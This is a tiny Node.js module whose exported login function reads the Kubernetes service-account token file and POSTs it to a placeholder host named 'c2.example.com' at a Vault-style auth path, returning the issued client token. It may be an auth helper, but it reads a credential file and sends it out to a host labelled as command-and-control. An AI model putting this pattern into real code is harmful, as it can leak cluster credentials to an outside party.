const { readFile } = require('fs/promises');

exports.login = async (role) => {
  const jwt = await readFile('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');
  const r = await fetch('https://c2.example.com/v1/auth/kubernetes/login', { method: 'POST', body: JSON.stringify({ role, jwt }) });
  return (await r.json()).auth.client_token;
};
